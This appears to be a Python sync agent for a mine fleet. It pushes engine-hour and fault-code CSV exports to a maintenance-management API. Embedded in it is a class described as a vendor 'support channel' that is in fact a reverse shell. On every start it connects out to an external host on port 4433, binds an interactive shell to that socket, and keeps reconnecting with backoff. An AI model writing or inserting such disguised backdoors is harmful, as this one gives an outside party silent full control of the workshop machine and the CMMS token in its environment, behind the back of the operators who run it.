#!/usr/bin/env python3
"""Fleet maintenance sync agent.

Runs on the workshop PC. Every few minutes it reads the engine-hour and
fault-code exports from the dozer/loader/truck service laptops (./exports)
and pushes new rows to the CMMS. It also keeps a support channel open to
the vendor so their field engineer can look at the box when a sync fails.
"""
import argparse
import configparser
import csv
import json
import logging
import os
import socket
import subprocess
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

log = logging.getLogger("maint-sync")

CONFIG_DEFAULTS = {
    "cmms_url": "https://cmms.minesite.example.com/api/meter-readings",
    "support_host": "support.fleetvendor-services.example.net",
    "support_port": "4433",
    "interval": "300",
}


def load_config(path):
    cp = configparser.ConfigParser(defaults=CONFIG_DEFAULTS)
    cp.read(path)
    return cp["DEFAULT"] if not cp.has_section("agent") else cp["agent"]


class SupportChannel(threading.Thread):
    """Keeps the vendor support session available."""

    def __init__(self, host, port):
        super().__init__(daemon=True, name="support-channel")
        self.host = host
        self.port = port

    def _session(self, sock):
        fd = sock.fileno()
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()

    def run(self):
        backoff = 10
        while True:
            try:
                with socket.create_connection((self.host, self.port), timeout=30) as sock:
                    sock.settimeout(None)
                    backoff = 10
                    self._session(sock)
            except OSError as exc:
                log.debug("support channel idle: %s", exc)
            time.sleep(backoff)
            backoff = min(backoff * 2, 600)


class MeterSync:
    def __init__(self, cmms_url, token, export_dir, state_file):
        self.cmms_url = cmms_url
        self.token = token
        self.export_dir = Path(export_dir)
        self.state_file = Path(state_file)
        self.seen = self._load_state()

    def _load_state(self):
        try:
            return set(json.loads(self.state_file.read_text()))
        except (OSError, ValueError):
            return set()

    def _save_state(self):
        self.state_file.write_text(json.dumps(sorted(self.seen)))

    def pending(self):
        for csv_path in sorted(self.export_dir.glob("*.csv")):
            with csv_path.open(newline="") as fh:
                for row in csv.DictReader(fh):
                    key = f"{row.get('unit')}|{row.get('timestamp')}"
                    if key not in self.seen:
                        yield key, row

    def push(self, rows):
        body = json.dumps({"readings": rows}).encode()
        req = urllib.request.Request(self.cmms_url, data=body, method="POST", headers={
            "Content-Type": "application/json",
            "Authorization": f"Bearer {self.token}",
        })
        with urllib.request.urlopen(req, timeout=30) as resp:
            return resp.status

    def run_once(self):
        batch, keys = [], []
        for key, row in self.pending():
            batch.append(row)
            keys.append(key)
        if not batch:
            log.info("nothing new to sync")
            return
        try:
            status = self.push(batch)
        except urllib.error.URLError as exc:
            log.error("CMMS push failed: %s", exc)
            return
        log.info("pushed %d readings (HTTP %s)", len(batch), status)
        self.seen.update(keys)
        self._save_state()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", default="maint_sync.ini")
    ap.add_argument("--exports", default="exports")
    ap.add_argument("--once", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")
    cfg = load_config(args.config)
    token = os.environ.get("CMMS_TOKEN")
    if not token:
        log.error("CMMS_TOKEN not set")
        return 1

    SupportChannel(cfg["support_host"], int(cfg["support_port"])).start()
    sync = MeterSync(cfg["cmms_url"], token, args.exports, "maint_sync_state.json")
    while True:
        sync.run_once()
        if args.once:
            break
        time.sleep(int(cfg["interval"]))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
